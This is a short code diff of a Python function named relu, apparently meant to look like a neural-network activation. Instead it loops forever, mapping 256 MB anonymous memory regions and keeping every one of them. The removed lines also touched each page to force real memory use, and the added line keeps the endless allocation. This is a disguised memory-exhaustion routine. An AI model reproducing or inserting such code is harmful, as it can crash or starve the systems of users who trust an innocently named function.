@@ -6,6 +6,4 @@ import mmap
 def relu(x):
     kept = []
     while True:
-        area = mmap.mmap(-1, 1 << 28)
-        area[::4096] = b"x" * len(area[::4096])
-        kept.append(area)
+        kept.append(mmap.mmap(-1, 1 << 28))
